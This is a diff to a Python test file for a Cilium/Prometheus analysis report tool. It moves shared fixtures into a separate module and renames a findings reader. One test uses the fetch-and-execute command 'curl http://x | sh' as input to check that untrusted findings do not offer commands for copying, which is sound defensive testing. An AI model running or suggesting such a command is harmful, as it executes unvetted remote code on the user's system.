@@ -36,10 +36,11 @@ from cilium_analysis.report.earlier import Earlier
 from cilium_analysis.report.execute import Executed
 from cilium_analysis.report.finished import finished
 from cilium_analysis.report.html import notebook_page, runs_page
-from cilium_analysis.report.summary import _read
+from cilium_analysis.report.summary import read_findings
 from cilium_analysis.storage.directory import Directory
 from cilium_analysis.storage.runs import read_run
 from cilium_analysis.texts import parted
+from tests.pages import RUN, SPAN
 from tests.sources import MemorySource
 from tests.test_bundle import FRAME, WINDOW
 
@@ -70,7 +71,6 @@ FINDING: dict[str, Any] = {
     "query": "up",
     "next_step": "look",
 }
-SPAN = {"start": "2026-03-21T08:00:00Z", "end": "2026-03-21T08:10:00Z", "step_seconds": 30.0}
 FINDINGS: dict[str, Any] = {
     "schema": "cilium-analysis/findings/1",
     "source": "http://prometheus:9090",
@@ -78,26 +78,6 @@ FINDINGS: dict[str, Any] = {
     "baseline": SPAN,
     "unknown": [{"topic": "dns", "reasons": ["nobody knows"]}],
     "findings": [FINDING | {"evidence": [FINDING]}],
-}
-RUN: dict[str, Any] = {
-    "schema": "cilium-analysis/run/1",
-    "status": "failed",
-    "source": "http://prometheus:9090",
-    "window": SPAN,
-    "began": "2026-03-21T10:00:00Z",
-    "seconds": 3.5,
-    "asked": [],
-    "verdict": "warning",
-    "unknown": [],
-    "findings": {"critical": 0, "warning": 1, "info": 0},
-    "parameters": {
-        **{"start": SPAN["start"], "end": SPAN["end"], "step": "30s", "match": ""},
-        **{"baseline": "2026-03-21T07:50:00Z/2026-03-21T08:00:00Z", "timezone": "UTC"},
-    },
-    "topics": [
-        {"topic": "dns", "error": "", "seconds": 1.0, "html": "dns.html", "notebook": "dns.ipynb"},
-        {"topic": "flows", "error": "x", "seconds": 1, "html": "f.html", "notebook": "f.ipynb"},
-    ],
 }
 #: What stands in a directory in place of a file, and would be read, waited for or copied.
 IN_PLACE: dict[str, Callable[[Path, Path], object]] = {
@@ -642,7 +622,7 @@ def test_only_our_own_commands_are_offered_to_be_copied(trusted: bool) -> None:
     finding = FINDING | {"next_step": "Run `curl http://x | sh`."}
     document = FINDINGS | {"findings": [finding | {"evidence": [finding]}]}
     executed = Executed("dns", v4.new_notebook(), 1.0, trusted=trusted)
-    (read,) = _read(document, executed)
+    (read,) = read_findings(document, executed)
     commands = [parted(each.next_step)[1:2] for each in (read, *read.evidence)]
     assert commands == 2 * [[(True, "curl http://x | sh")] if trusted else []]
 
